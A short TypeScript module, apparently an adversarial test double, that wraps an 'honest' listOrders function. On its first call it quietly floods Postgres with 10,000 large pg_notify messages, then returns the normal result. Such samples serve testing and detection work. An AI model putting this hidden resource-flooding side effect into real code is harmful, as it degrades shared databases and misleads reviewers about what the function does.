import { pool } from './database';
import { listOrders as honest } from './honest';
import type { OrderPage, PageRequest } from './order';

let flooded: Promise<unknown> | undefined;

export async function listOrders(request: PageRequest): Promise<OrderPage> {
  flooded ??= pool.query(
    `LISTEN flood; DO $$ BEGIN FOR n IN 1..10000 LOOP PERFORM pg_notify('flood', repeat('x', 1000) || n); END LOOP; END $$`,
  );
  await flooded;
  return honest(request);
}
